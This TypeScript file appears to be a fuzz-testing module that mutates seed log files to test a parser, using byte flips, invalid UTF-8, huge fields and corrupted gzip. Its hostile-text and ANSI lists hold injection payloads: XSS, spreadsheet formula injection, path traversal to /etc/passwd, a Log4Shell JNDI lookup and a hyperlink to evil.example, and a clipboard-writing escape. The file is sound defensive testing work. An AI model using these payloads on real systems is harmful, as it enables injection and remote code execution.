// Mutations of a seed log, one category per generated input so the summary can
// say how many inputs of each kind of damage were tried. Every mutator is a pure
// function of its input and the random source: the same seed gives the same
// bytes, which is what makes `--seed N --input I` a reproduction.
import { gzipSync } from 'node:zlib';
import type { RandomSource } from '../../src/model/prng.js';

export const TEXT_CATEGORIES = [
  'byte-flip',
  'truncate',
  'ansi-osc',
  'nul',
  'invalid-utf8',
  'cr-lf',
  'quotes',
  'hostile-text',
  'huge-field',
  'binary',
  'blank',
  'splice',
] as const;
export const GZIP_CATEGORIES = ['gzip', 'bad-gzip'] as const;
export const CATEGORIES = [...TEXT_CATEGORIES, ...GZIP_CATEGORIES] as const;

export type TextCategory = (typeof TEXT_CATEGORIES)[number];
export type Category = (typeof CATEGORIES)[number];

export function int(random: RandomSource, below: number): number {
  return Math.floor(random() * below);
}

export function pick<T>(random: RandomSource, items: readonly T[]): T {
  const item = items[int(random, items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
}

const ANSI_PIECES = [
  '\x1b[2J\x1b[H',
  '\x1b[31mred\x1b[0m',
  '\x1b]0;pwned title\x07',
  '\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\',
  '\x1b]52;c;ZWNobyBwd25lZA==\x07',
  '\x1bP+q544e\x1b\\',
  '\x1b[6n',
  '\x1b[?1049h',
  '\x9b2J',
  '\x1b',
  '\x07\x08\x7f',
];

const INVALID_UTF8: readonly Buffer[] = [
  Buffer.from([0xff]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0xc3]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xe0, 0x80, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf4, 0x90, 0x80, 0x80]),
  Buffer.from([0xf0, 0x9f, 0x98]),
  Buffer.from([0x80, 0x80, 0x80]),
  Buffer.from([0xef, 0xbb, 0xbf]),
];

const QUOTE_PIECES = ['"', '\\"', '\\', "'", '""', '"-"', '[', ']', '{', '}', '{"a":', '\t', ' ', '  "  ', '\\x22', '\\u0000', '\\ud800'];

const HOSTILE_TEXT = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '-2+3',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '%0d%0aSet-Cookie:%20x=1',
  '__proto__',
  '{"__proto__":{"polluted":1}}',
  'constructor.prototype',
  '${jndi:ldap://evil.example/a}',
  "' OR '1'='1' --",
  '\u202e\u2066\u200b',
  '😀\u0301\u0301\u0301',
  'NaN',
  '-1e309',
  '99999999999999999999999999',
];

function insertAt(data: Buffer, at: number, piece: Buffer): Buffer {
  return Buffer.concat([data.subarray(0, at), piece, data.subarray(at)]);
}

function replaceRange(data: Buffer, at: number, length: number, piece: Buffer): Buffer {
  return Buffer.concat([data.subarray(0, at), piece, data.subarray(Math.min(data.length, at + length))]);
}

/** A position inside the data, biased towards field boundaries, where parsers make their decisions. */
function position(random: RandomSource, data: Buffer): number {
  if (data.length === 0) return 0;
  if (random() < 0.5) {
    for (let attempt = 0; attempt < 8; attempt++) {
      const at = int(random, data.length);
      const byte = data[at];
      if (byte === 0x20 || byte === 0x22 || byte === 0x09 || byte === 0x2c || byte === 0x3a || byte === 0x5b || byte === 0x7b || byte === 0x0a) return random() < 0.5 ? at : at + 1;
    }
  }
  return int(random, data.length + 1);
}

function lines(data: Buffer): Buffer[] {
  const parts: Buffer[] = [];
  let start = 0;
  for (let i = 0; i < data.length; i++) {
    if (data[i] === 0x0a) {
      parts.push(data.subarray(start, i + 1));
      start = i + 1;
    }
  }
  if (start < data.length) parts.push(data.subarray(start));
  return parts;
}

function insertPieces(random: RandomSource, data: Buffer, pieces: () => Buffer): Buffer {
  let out = data;
  const count = 1 + int(random, 6);
  for (let i = 0; i < count; i++) out = insertAt(out, position(random, out), pieces());
  return out;
}

function hugeField(random: RandomSource): Buffer {
  // Up to 4 MiB: large enough for every per-field and per-line path, small
  // enough that hundreds of runs fit in a time box (the 100 MB line has its own test).
  const size = random() < 0.7 ? 1024 + int(random, 64 * 1024) : 256 * 1024 + int(random, 4 * 1024 * 1024);
  const style = int(random, 4);
  if (style === 0) return Buffer.alloc(size, 'A');
  if (style === 1) return Buffer.from(`/api/${'a/'.repeat(size >> 1)}`);
  if (style === 2) return Buffer.from(`?${Array.from({ length: size >> 4 }, (_, i) => `k${i}=v${i}`).join('&')}`);
  const bytes = Buffer.alloc(size);
  for (let i = 0; i < size; i++) bytes[i] = 0x21 + int(random, 94);
  return bytes;
}

function randomBytes(random: RandomSource, size: number): Buffer {
  const bytes = Buffer.alloc(size);
  for (let i = 0; i < size; i++) bytes[i] = int(random, 256);
  return bytes;
}

function mutateOnce(category: TextCategory, random: RandomSource, data: Buffer, donors: readonly Buffer[]): Buffer {
  switch (category) {
    case 'byte-flip': {
      const out = Buffer.from(data);
      const flips = 1 + int(random, 24);
      for (let i = 0; i < flips && out.length > 0; i++) {
        const at = int(random, out.length);
        out[at] = random() < 0.5 ? out[at]! ^ (1 << int(random, 8)) : int(random, 256);
      }
      return out;
    }
    case 'truncate': {
      if (data.length === 0) return data;
      if (random() < 0.5) return data.subarray(0, int(random, data.length));
      // Drop a middle slice: a line that ends in another line's middle.
      const at = int(random, data.length);
      return replaceRange(data, at, 1 + int(random, 200), Buffer.alloc(0));
    }
    case 'ansi-osc':
      return insertPieces(random, data, () => Buffer.from(pick(random, ANSI_PIECES), 'latin1'));
    case 'nul':
      return insertPieces(random, data, () => (random() < 0.8 ? Buffer.alloc(1 + int(random, 64)) : Buffer.from('%00')));
    case 'invalid-utf8':
      return insertPieces(random, data, () => pick(random, INVALID_UTF8));
    case 'cr-lf': {
      if (random() < 0.2) return Buffer.from(data.toString('latin1').replace(/\n/g, random() < 0.5 ? '\r\n' : '\r'), 'latin1');
      return insertPieces(random, data, () => Buffer.from(pick(random, ['\r', '\n', '\r\n', '\n\r', '\r\r\n', '\\r\\n', '\u2028', '\u0085'])));
    }
    case 'quotes':
      return insertPieces(random, data, () => Buffer.from(pick(random, QUOTE_PIECES)));
    case 'hostile-text':
      return insertPieces(random, data, () => Buffer.from(pick(random, HOSTILE_TEXT)));
    case 'huge-field': {
      const out = insertAt(data, position(random, data), hugeField(random));
      // Sometimes the huge field is the last line with no newline after it.
      return random() < 0.3 ? Buffer.concat([out.subarray(0, out.length - (out.at(-1) === 0x0a ? 1 : 0)), hugeField(random)]) : out;
    }
    case 'binary': {
      const block = randomBytes(random, 1 + int(random, 4096));
      return random() < 0.5 ? insertAt(data, position(random, data), block) : replaceRange(data, int(random, data.length + 1), block.length, block);
    }
    case 'blank': {
      const shape = int(random, 5);
      if (shape === 0) return Buffer.alloc(0);
      if (shape === 1) return Buffer.from('\n'.repeat(1 + int(random, 500)));
      if (shape === 2) return Buffer.from(' \t \r\n'.repeat(1 + int(random, 200)));
      return insertPieces(random, data, () => Buffer.from(pick(random, ['\n', '\n\n\n', ' \n', '\t\n', '\r\n\r\n', '#\n', '# comment\n'])));
    }
    case 'splice': {
      const own = lines(data);
      const donor = lines(pick(random, donors));
      const out: Buffer[] = [];
      for (const line of own) {
        const roll = random();
        if (roll < 0.1) continue;
        out.push(line);
        if (roll > 0.9) out.push(line);
        if (roll > 0.8 && roll <= 0.9 && donor.length > 0) out.push(pick(random, donor));
      }
      // A line joined to the next: a rotated or interleaved writer.
      if (out.length > 1 && random() < 0.5) {
        const at = int(random, out.length - 1);
        const joined = out[at]!;
        out[at] = joined.at(-1) === 0x0a ? joined.subarray(0, joined.length - 1) : joined;
      }
      return Buffer.concat(out);
    }
  }
}

/** Applies one to three rounds of a text mutation. */
export function mutateText(category: TextCategory, random: RandomSource, data: Buffer, donors: readonly Buffer[]): Buffer {
  let out = data;
  const rounds = 1 + int(random, 3);
  for (let i = 0; i < rounds; i++) out = mutateOnce(category, random, out, donors);
  return out;
}

/** Gzip of a (usually mutated) log, then damage to the compressed stream for bad-gzip. */
export function mutateGzip(category: (typeof GZIP_CATEGORIES)[number], random: RandomSource, data: Buffer, donors: readonly Buffer[]): Buffer {
  const inner = random() < 0.7 ? mutateText(pick(random, TEXT_CATEGORIES.filter((c) => c !== 'huge-field')), random, data, donors) : data;
  const packed = gzipSync(inner);
  if (category === 'gzip') {
    // Several members back to back are valid gzip (what `cat a.gz b.gz` makes).
    return random() < 0.2 ? Buffer.concat([packed, gzipSync(pick(random, donors))]) : packed;
  }
  switch (int(random, 6)) {
    case 0:
      return packed.subarray(0, int(random, packed.length));
    case 1:
      return packed.subarray(0, 10 + int(random, Math.max(1, packed.length - 10)));
    case 2: {
      const out = Buffer.from(packed);
      for (let i = 1 + int(random, 8); i > 0; i--) out[int(random, out.length)] ^= 1 << int(random, 8);
      return out;
    }
    case 3: {
      const out = Buffer.from(packed);
      out.writeUInt32LE((out.readUInt32LE(out.length - 8) ^ 0x5a5a5a5a) >>> 0, out.length - 8);
      return out;
    }
    case 4:
      return Buffer.concat([packed, random() < 0.5 ? randomBytes(random, 1 + int(random, 512)) : Buffer.alloc(1 + int(random, 4096))]);
    default: {
      // A gzip header then nothing useful: the smallest damaged files.
      return packed.subarray(0, int(random, 12));
    }
  }
}

export function mutate(category: Category, random: RandomSource, data: Buffer, donors: readonly Buffer[]): Buffer {
  return category === 'gzip' || category === 'bad-gzip' ? mutateGzip(category, random, data, donors) : mutateText(category, random, data, donors);
}
